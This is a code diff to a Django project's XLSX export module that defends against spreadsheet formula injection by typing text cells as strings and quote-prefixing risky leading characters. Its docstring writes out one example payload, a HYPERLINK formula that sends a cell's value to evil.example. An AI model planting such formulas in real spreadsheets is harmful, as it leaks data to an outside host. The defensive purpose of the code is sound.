@@ -1,35 +1,77 @@
 """Spreadsheet downloads (XLSX through openpyxl): a title line, a header line, then the rows. Written in
-openpyxl's write-only mode, so a long export streams through memory row by row."""
+openpyxl's write-only mode, so a long export streams through memory row by row.
+
+This module is Vigie's only spreadsheet writer (tests/core/test_spreadsheets.py scans the code for any other):
+every cell goes through `_cell`, which writes text as text. openpyxl turns a string that starts with « = » into a
+formula and a string such as « #N/A » into an error value; a theme or an indicator named
+`=HYPERLINK("http://evil.example/?x="&A3,"Voir")` would become a live formula in an agent's spreadsheet (formula
+injection, CWE-1236). Here a string cell is always typed as a string (`t="inlineStr"`): the spreadsheet shows the
+exact text and evaluates nothing. A text starting with = + - @, a tab or a carriage return also gets Excel's
+« quotePrefix » style, so that editing the cell (F2, Entrée) keeps it text. The text itself is never changed,
+except the control characters XML cannot hold (shown as « \ufffd »).
+
+No CSV is written: a CSV cell has no type, and the only defence there is OWASP's (prefix a risky cell with « ' »),
+which changes the text. A future CSV export belongs here, with that rule.
+"""
 
 from __future__ import annotations
 
 import datetime as dt
 import io
+import re
 from collections.abc import Iterable
+from decimal import Decimal
 
 import openpyxl
 from django.http import HttpResponse
 from openpyxl.cell import WriteOnlyCell
+from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
 
 XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
 
+MAX_CELL_TEXT = 32_767  # Excel's limit for one cell
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # what a spreadsheet may read as the start of a formula
+_SHEET_TITLE_FORBIDDEN = re.compile(r"[\\/*?:\[\]]")
+_NUMBERS = (int, float, Decimal)  # bool is an int: written as a boolean cell
 
-def _cell(sheet, value):
-    cell = WriteOnlyCell(sheet, value=value)
+
+def _text(value: object) -> str:
+    return ILLEGAL_CHARACTERS_RE.sub("\ufffd", str(value))[:MAX_CELL_TEXT]
+
+
+def _cell(sheet, value) -> WriteOnlyCell:
+    """One cell: numbers, dates and booleans keep their type (dates in French formats); anything else is text,
+    typed as a string whatever it starts with."""
+    if value is None or isinstance(value, _NUMBERS):
+        return WriteOnlyCell(sheet, value=value)
     if isinstance(value, dt.datetime):
+        cell = WriteOnlyCell(sheet, value=value)
         cell.number_format = "DD/MM/YYYY HH:MM"
-    elif isinstance(value, dt.date):
+        return cell
+    if isinstance(value, dt.date):
+        cell = WriteOnlyCell(sheet, value=value)
         cell.number_format = "DD/MM/YYYY"
+        return cell
+    text = _text(value)
+    cell = WriteOnlyCell(sheet, value=text)
+    cell.data_type = "s"  # after the value: openpyxl would have made « =… » a formula and « #N/A » an error
+    if text.startswith(FORMULA_STARTS):
+        cell.quotePrefix = True
     return cell
+
+
+def _sheet_name(text: str) -> str:
+    """A worksheet name Excel accepts: 31 characters at most, none of \\ / * ? : [ ]."""
+    return _SHEET_TITLE_FORBIDDEN.sub("-", _text(text))[:31] or "Feuille"
 
 
 def write_xlsx(target, *, title: str, header: list[str], rows: Iterable[list], sheet_title: str | None = None) -> None:
     """Write a one-sheet workbook to `target` (a binary file or buffer). Dates and datetimes (naive, local time)
-    get French formats."""
+    get French formats; text is always text (see the module's docstring)."""
     workbook = openpyxl.Workbook(write_only=True)
-    sheet = workbook.create_sheet((sheet_title or title)[:31].replace("/", "-"))
-    sheet.append([title])
-    sheet.append(header)
+    sheet = workbook.create_sheet(_sheet_name(sheet_title or title))
+    sheet.append([_cell(sheet, title)])
+    sheet.append([_cell(sheet, name) for name in header])
     for row in rows:
         sheet.append([_cell(sheet, value) for value in row])
     workbook.save(target)
